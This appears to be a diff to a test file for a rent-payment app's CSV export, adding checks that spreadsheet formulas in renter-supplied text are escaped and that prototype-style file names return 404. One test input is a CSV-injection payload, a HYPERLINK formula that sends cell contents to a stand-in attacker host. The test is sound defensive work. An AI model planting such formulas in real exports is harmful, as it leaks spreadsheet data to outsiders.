@@ -22,7 +22,7 @@ import { historyMismatches } from '@/server/testing/history';
 import { payingRenter, type PayingRenter } from '@/server/testing/payments';
 import { parseCsv } from '@/scripts/lib/csv-records';
 import { verifyExportFile } from '@/scripts/verify-export';
-import { formulaSafe } from '@/server/export/exports';
+import { formulaSafe, formulaUnescape } from '@/server/export/formula';
 
 let a: PayingRenter;
 let b: PayingRenter;
@@ -169,7 +169,7 @@ describe('/api/export/events.csv and events.jsonl', () => {
         type: row.type!,
         actorId: row.actorId || null,
         actorRole: row.actorRole!,
-        reason: row.reason || null,
+        reason: formulaUnescape(row.reason!) || null,
         data: JSON.parse(row.data!),
         createdAt: new Date(row.createdAt!),
         prevHash: row.prevHash || null,
@@ -194,6 +194,21 @@ describe('/api/export/events.csv and events.jsonl', () => {
     expect(result.broken).toHaveLength(1);
     expect(result.broken[0]).toMatchObject({ reason: 'content does not match its hash (the row was altered)' });
     expect(lines.at(-1)).toMatch(/1 broken$/);
+  });
+
+  it('a renter’s formula in a reason reaches the landlord’s events.csv escaped, and the file still verifies offline (found attacking the API)', async () => {
+    const c = await payingRenter();
+    const reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'already quoted"];
+    for (const [index, reason] of reasons.entries()) {
+      const payment = await c.renterApi.payment.create.mutate({ installmentId: c.lease.installments[index]!.id, fromAccountId: c.from.id, rail: 'STANDARD_ACH' });
+      await c.renterApi.payment.cancel.mutate({ id: payment.id, reason });
+    }
+    const csv = await (await download('events.csv?aggregateType=Payment', await cookieOf(c.landlord))).text();
+    const cells = (await parseCsv(csv)).filter((row) => row.type === 'payment.cancelled').map((row) => row.reason);
+    expect(cells).toEqual(reasons.map((reason) => `'${reason}`));
+    const dir = await mkdtemp(path.join(os.tmpdir(), 'directpay-export-'));
+    await writeFile(path.join(dir, 'events.csv'), csv);
+    expect(await verifyExportFile(path.join(dir, 'events.csv'), () => undefined)).toMatchObject({ events: 4, chains: 2, broken: [] });
   });
 
   it('answers the same events as JSON lines, filtered like audit.events, to an API token too', async () => {
@@ -253,9 +268,11 @@ describe('/api/export/payments.csv, ledger.csv and statement.csv', () => {
   });
 
   it('escapes text a spreadsheet would run as a formula, not negative amounts; an unknown or inherited file name is a 404, a cursor past 64 bits a 400', async () => {
-    expect(['=HYPERLINK("http://x")', '+1 cmd', '@SUM(A1)', '-x', '\tx', '-1500.00', '12.5', 'Maple Court'].map(formulaSafe)).toEqual([
-      `'=HYPERLINK("http://x")`, "'+1 cmd", "'@SUM(A1)", "'-x", "'\tx", '-1500.00', '12.5', 'Maple Court',
+    const texts = ['=HYPERLINK("http://x")', '+1 cmd', '@SUM(A1)', '-x', '\tx', '-1500.00', '12.5', 'Maple Court', "'quoted", "''=1"];
+    expect(texts.map(formulaSafe)).toEqual([
+      `'=HYPERLINK("http://x")`, "'+1 cmd", "'@SUM(A1)", "'-x", "'\tx", '-1500.00', '12.5', 'Maple Court', "''quoted", "'''=1",
     ]);
+    expect(texts.map(formulaSafe).map(formulaUnescape)).toEqual(texts);
     for (const name of ['constructor', '__proto__', 'toString', 'nope.csv']) expect([name, (await download(name, await cookieOf(a.landlord))).status]).toEqual([name, 404]);
     expect((await download('events.csv?cursor=9999999999999999999', await cookieOf(a.landlord))).status).toBe(400);
     expect(await codeOf(a.landlordApi.audit.events.query({ cursor: '9223372036854775808' }))).toBe('BAD_REQUEST');
